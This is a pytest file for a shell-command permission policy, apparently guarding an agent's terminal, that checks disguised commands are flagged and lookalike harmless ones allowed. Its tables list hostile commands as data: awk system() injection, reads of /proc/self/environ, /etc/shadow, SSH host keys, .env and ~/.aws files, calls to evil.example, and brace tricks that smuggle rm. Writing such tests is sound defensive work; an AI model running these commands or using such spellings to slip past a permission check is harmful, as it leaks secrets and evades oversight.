"""What once talked the tables round: each line does more than look, in a way that its program's name does not tell."""

from __future__ import annotations

import pytest

from hookline.containment import ShellPolicy

LANGUAGES = r"""
    awk '/[\]/ ~ "]/ {system("id")} /[\]/ ~ "]/ {}' f
    awk 'BEGIN{ length /"/; system("id"); length /"/ }'
    awk 'BEGIN{ length /"/; print > "out"; length /"/ }'
    awk 'BEGIN{ 1system("id") }'
    awk '{ print /a|b/ | "sh" }' f
    awk '{ x = "/" ; print "a" > x }' f
    awk '$1 ~ /"/ { print "> x" > "y" }' f
    awk '{ print $1 } # " > "x" f' f
    awk '{ print 1 }' /inet/tcp/0/evil.example/80
    awk 1 f -f evil.awk
    awk -v x={a,'BEGIN{system("id")}'} 1 f
    for f in 'a BEGIN{system(1)}'; do awk -v $f 1; done
    yq '"${TOKEN}" | envsubst' f
    yq 'strload("x")' f
    yq '.a = load("x")' f
    yq 'eval(.x)' f
    for f in env; do jq -n $f; done
    jq ".a|$(echo env)" f
    nft list 'ruleset; flush ruleset'
    git log --format='%+GG'
    git log --format=%{G?,h}
    git reflog --format=%GG
    git for-each-ref --format='%(signature)'
    git branch --sort=signature
"""
SEVERAL_WORDS = r"""
    for f in -vPATH; do printf $f ev; ls; done
    printf *
    printf "$X" x
    printf '%nx' PATH; ls
    printf -- 'ab%-5n' PATH
    printf '%*ln' 3 PATH
    for f in %n; do printf "x$f" PATH; done
    nice -n {1,rm} ls x
    timeout -k {1,2} 3 ls
    ls | xargs -n {1,rm} cat
    git -C p{.,ush} status
    kubectl -n a{,\ } get pods
    uniq -f 1{2,3} out
    xxd -l 1{2,3} f out
    git reflog d*
    echo -delete | xargs -I{} -n2 find .
    echo -delete | xargs -I{} -L1 find .
"""
BRACES = r"""
    find e -maxdepth 0 -exec sed '1{}' c \;
    find o -maxdepth 0 -exec sort -{} out f \;
    find pre=sh -maxdepth 0 -exec rg --{} . f \;
    find d -exec cat /etc/sha{}ow \;
    find . -exec awk '{}' f \;
    find . -exec a{} \;
    find . -name x -execdir sort {} \;
"""
PLACES = r"""
    find . -maxdepth 0 -printf '/etc/hosts\n' | xargs cat
    git ls-files --format=/etc/hosts | xargs cat
    ls | grep -l --label=/etc/hosts '' | xargs cat
    grep -el f | xargs cat
    rg -rl x f | xargs cat
    ls | xargs -I% cat ~/.aws/%
    find . -type d | xargs -I{} cat {}/.env
    ls x | xargs -I{} cat /etc/{}
    ls x | while read f; do cat "/etc/$f"; done
    cd "$(echo /proc/self)" && cat environ
    grep --color KEY .env
    ag -C KEY .env
    git config --get http.extraheader
    xargs cat < list
    xargs cat <<< .env
    ls | xargs cat <<< x
    ls | while read f; do cat "$f"; done <<< .env
    ls | while read f <<< .env; do cat "$f"; done
    ls -a | xargs cat
    ls .env.example | grep -o '.env' | xargs cat
    ls .env.example | head -c 4 | xargs cat
    ls a,b | xargs -d , cat
    ls a | while IFS=, read a f; do cat "$f"; done
    systemctl show -p Environment nginx
    systemctl show
    for http_proxy in evil:80; do gh pr list; done
    cd ~/.aws; (cd ../proj); cat config
    builtin cd /proc/self && cat environ
    command -p cd ~/.aws && cat config
    man ./page
    cd ~/.aws; false && cd ..; cat config
    cd; grep -r KEY .
    cd ~ && rg KEY
    grep -nf/proc/self/environ x
    cat ~/.config/g*/hosts.yml
    cat /etc/ssh/ssh_host_rsa_key
    gh pr list --json title --jq env
    gh api repos/a/b --jq '$ENV'
    kubectl get pods -o go-template-file=/proc/self/environ
    az group list --query @/etc/hosts
    aws ec2 describe-instances --filters file:///etc/hosts
"""
VERBS = r"""
    service ../../tmp/x/s.sh status
    service .. status x
    aws --profile a --query list-x s3 rm s3://bucket --recursive
    aws --profile p --region describe-x ec2 stop-instances
    aws s3 --profile list-x rm x
    aws lambda list-functions
    docker top web e
    brew info ./evil.rb
    brew info someone/tap/formula
    dnf info http://evil.example/x.rpm
    npm help ls
    jps -J-javaagent:evil.jar
    jar tf x.jar @words
    ar t lib.a @words
    stty size raw
    base64 -i a -o b
    tput -T evil init
    tput reset
    kubectl get pods -o go-template-f{i..i}le=x
    bat --paging=always f
    sort --files0-from=list
"""
QUESTIONS = r"""
    pytest --help
    pytest --version
"""
COMPRESSORS = r"""
    xz -l -d f.xz
    zstd -l -d f.zst
    bzip2 -t -d f.bz2
    bzip2 -c -t -d f.bz2
    gzip -- -c f
    gzip -d -- f.gz -c
    xz -- f -l
    gzip -k f
"""
SECRETS = r"""
    ps eU0
    ps ep1
    ps -eux
    ps -u e
    ps to e
    ps -o environ
    cat /proc/$$/env*
    cat /proc/1/env*
    cat /p*c/self/environ
    cat /proc/self/task/1/environ
    cd /proc/self && cat e*
    grep -r . /proc/self
    find /proc/self -name environ -exec cat {} +
    find /proc/1 -name environ | xargs cat
    cat /etc/shad*
    cat /???/shadow
    git grep --no-index x ~
    getent hosts secret.evil.example
    getent ahosts x
    xmllint http://evil.example/?a=1
    xmllint --valid f
"""
HARMLESS = r"""
    awk '/x|y/ && $3 > 3 {print $2}' f
    awk '$3 > 100 {printf "%s\n", $1}' f
    awk '{ if ($2 > 3) print }' f
    awk '{print $1 " -> " $2}' f
    awk '{print $1/$2}' f
    printf '%s\n' *
    find . -exec echo a{}b \;
    find . -name x -execdir cat {} \;
    git -C ~/x status
    git -C "$HOME/x" status
    service nginx status
    aws --profile p ec2 describe-instances --region x
    gzip -dc f.gz
    gzip -d -c f.gz
    xz -lv f.xz
    ps aux --sort=-%mem
    ps -eo pid,etime --sort=-rss
    ps axo pid,etime
    ps -u root -o pid,etime
    ps -p 1 -o comm=
    cat /proc/cpuinfo /proc/self/status /proc/sys/kernel/hostname
    cat /etc/*release
    jq --arg x y '.a' f.json
    jq . *.json
    yq eval '.a.payload' f
    nft list ruleset
    getent passwd root
    ls | xargs -I{} echo {}
    git log -- src/signature.py
    cd "$(git rev-parse --show-toplevel)" && cat README.md
    cd src && cat x.py && cd .. && cat README.md
    find . -name '*.py' -print0 | xargs -0 grep -l foo
    ls | xargs -I{} cat {}
    ls | xargs -d '\n' cat
    ls a | while IFS= read -r f; do cat "$f"; done
    systemctl show nginx -p ActiveState
    gh pr list --json title --jq '.[].title'
"""


def lines(*texts: str) -> list[str]:
    """The lines of tables."""
    return [line.strip() for text in texts for line in text.strip().splitlines()]


@pytest.mark.parametrize("command", lines(LANGUAGES, SEVERAL_WORDS, BRACES))
def test_what_runs_is_not_what_is_read(command: str) -> None:
    """A small language, a word that becomes several, or braces that are filled in, are asked about."""
    assert ShellPolicy.default().judge(command).decision == "ask"


@pytest.mark.parametrize("command", lines(VERBS, QUESTIONS, COMPRESSORS))
def test_a_question_that_does_something(command: str) -> None:
    """What looks like a question, but runs a script, code of the project or replaces a file, is asked about."""
    assert ShellPolicy.default().judge(command).decision == "ask"


@pytest.mark.parametrize("command", lines(SECRETS, PLACES))
def test_a_look_at_secrets(command: str) -> None:
    """Environments, passwords and what leaves by the network are asked about in every spelling."""
    assert ShellPolicy.default().judge(command).decision == "ask"


@pytest.mark.parametrize("command", lines(HARMLESS))
def test_its_harmless_neighbour(command: str) -> None:
    """What is like them and only looks still runs without asking."""
    verdict = ShellPolicy.default().judge(command)
    assert verdict.decision == "allow", verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "pmap -N file 1",
        "nvidia-smi daemon",
        "xxd -ps a b",
        "pdftotext a.pdf out.txt -f -",
        "git branch --format --list evil",
        "git tag --format --list evil",
        "git config -- core.pager -l",
    ],
)
def test_values_that_look_like_options_are_not_taken_for_them(command: str) -> None:
    """Nor are options read after `--`, nor programs trusted whose options nobody has read."""
    assert ShellPolicy.default().judge(command).decision == "ask"
